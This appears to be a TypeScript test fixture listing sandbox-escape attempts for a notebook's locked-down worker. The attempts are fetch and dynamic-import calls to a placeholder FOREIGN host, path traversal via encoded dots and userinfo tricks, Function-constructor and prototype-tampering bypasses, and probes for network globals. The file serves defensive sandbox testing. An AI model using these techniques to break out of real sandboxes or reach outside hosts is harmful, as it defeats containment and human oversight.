/**
 * What a hostile cell may try. Each is the body of an async function; it succeeds when it returns
 * true or when FOREIGN hears of it. FOREIGN and HOME stand for addresses.
 */
const globalsThatReachOut = [
  "XMLHttpRequest",
  "WebSocket",
  "WebSocketStream",
  "EventSource",
  "WebTransport",
  "Worker",
  "SharedWorker",
  "BroadcastChannel",
  "MessageChannel",
  "MessagePort",
  "indexedDB",
  "IDBFactory",
  "caches",
  "CacheStorage",
  "cookieStore",
  "localStorage",
  "sessionStorage",
  "importScripts",
  "postMessage",
  "close",
  "FontFace",
  "fonts",
  "Request",
  "Notification",
  "RTCPeerConnection",
  "FileReaderSync",
  "FileSystemDirectoryHandle",
  "webkitRequestFileSystem",
  "webkitRequestFileSystemSync",
  "window",
  "document",
  "parent",
  "top",
  "opener",
  "ServiceWorkerRegistration",
  "PushManager",
  "trustedTypes",
  "reportError",
  "createImageBitmap",
  "onmessage",
];

const navigatorParts = [
  "storage",
  "locks",
  "serviceWorker",
  "sendBeacon",
  "permissions",
  "usb",
  "serial",
  "hid",
  "mediaCapabilities",
  "connection",
  "storageBuckets",
  "userAgentData",
];

const texts = {
  fetch: "await fetch('FOREIGN/fetch'); return true",
  "fetch of the page": "await fetch('HOME/'); return true",
  "fetch above the assets": "await fetch('HOME/assets/../index.html'); return true",
  "fetch by encoded dots": "await fetch('HOME/assets/%2e%2e/index.html'); return true",
  "fetch with another host's name in front":
    "await fetch('HOME@FOREIGN_HOST/assets/'); return true",
  "fetch of a data address": "await fetch('data:text/plain,x'); return true",
  "fetch after startsWith was replaced":
    "String.prototype.startsWith = () => true; await fetch('FOREIGN/starts'); return true",
  "fetch after URL was replaced":
    "globalThis.URL = function () { return { href: 'HOME/assets/' } }; await fetch('FOREIGN/url'); return true",
  "fetch with an address that changes":
    "let n = 0; await fetch({ toString: () => n++ ? 'FOREIGN/changes' : 'HOME/assets/x' }); return n > 1",
  "fetch from a prototype":
    "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) { const f = Object.getOwnPropertyDescriptor(o, 'fetch')?.value; if (f && f !== fetch) return true }",
  "import as text": "await (0, eval)('import(\"FOREIGN/a.js\")'); return true",
  "import by Function": "await Function('return import(\"FOREIGN/b.js\")')(); return true",
  "import by a constructor":
    "await (() => {}).constructor('return import(\"FOREIGN/c.js\")')(); return true",
  "import by an async constructor":
    "await (async () => {}).constructor('return import(\"FOREIGN/d.js\")')(); return true",
  "import by a generator's constructor":
    "return (function* () {}).constructor('yield import(\"FOREIGN/e.js\")')().next().value.then(() => true)",
  "import by an async generator's constructor":
    "await (async function* () {}).constructor('yield import(\"FOREIGN/f.js\")')().next(); return true",
  "import by a subclass of Function":
    "class F extends Function {}; await new F('return import(\"FOREIGN/g.js\")')(); return true",
  "import by the constructor's own prototype":
    "await Object.getPrototypeOf((async () => {}).constructor)('return import(\"FOREIGN/h.js\")')(); return true",
  "import by text that changes":
    "let n = 0; await Function({ toString: () => n++ ? 'return import(\"FOREIGN/i.js\")' : '' })(); return n > 1",
  "import after includes was replaced":
    "String.prototype.includes = () => false; await Function('return import(\"FOREIGN/j.js\")')(); return true",
  "import by a timer": "setTimeout('import(\"FOREIGN/k.js\")'); return false",
  "import as the cell's own": "await import('FOREIGN/l.js'); return true",
  "import after a comment that only scripts know":
    "let a = 0, b = 1; a <!--b/*\nimport('FOREIGN/m.js')//*/\nreturn false",
  "import with escapes in text":
    "await Function('return im\\\\u0070ort(\"FOREIGN/n.js\")')(); return true",
  "import after apply was replaced":
    "Reflect.apply = () => false; Function.prototype.call = () => 0; await Function('return import(\"FOREIGN/o.js\")')(); return true",
  "a response that loads": "return new Response('x').body === undefined",
  "an address for a blob": "return typeof URL.createObjectURL === 'function'",
  "a style that loads":
    "const c = new OffscreenCanvas(1, 1).getContext('2d'); c.filter = 'url(FOREIGN/f.svg#a)'; c.fillRect(0, 0, 1, 1); return false",
  "the port by its class":
    "return typeof MessagePort !== 'undefined' && typeof MessagePort.prototype.postMessage === 'function'",
  "a file through the host above the assets":
    "await globalThis[Symbol.for('notebook.host')].readAsset('../index.html'); return true",
  "a file through the host elsewhere":
    "await globalThis[Symbol.for('notebook.host')].readAsset('FOREIGN/x'); return true",
  "a file through the host by a scheme-less address":
    "await globalThis[Symbol.for('notebook.host')].readAsset('//FOREIGN_HOST/y'); return true",
};

export const attacks: Readonly<Record<string, string>> = {
  ...texts,
  ...Object.fromEntries(
    globalsThatReachOut.map((name) => [
      `the global ${name}`,
      `return typeof globalThis.${name} !== "undefined"`,
    ]),
  ),
  ...Object.fromEntries(
    navigatorParts.map((name) => [
      `navigator.${name}`,
      `return typeof (navigator as any).${name} !== "undefined"`,
    ]),
  ),
};

/** What succeeds in a worker that is not locked down: were it not so, the tries would prove nothing. */
export const controls: Readonly<Record<string, string>> = {
  fetch: texts.fetch,
  "import by Function": texts["import by Function"],
  "import by an async constructor": texts["import by an async constructor"],
  "import after a comment that only scripts know":
    texts["import after a comment that only scripts know"],
  "the port by its class": texts["the port by its class"],
  indexedDB: "return typeof indexedDB !== 'undefined'",
  Worker: "return typeof Worker !== 'undefined'",
};
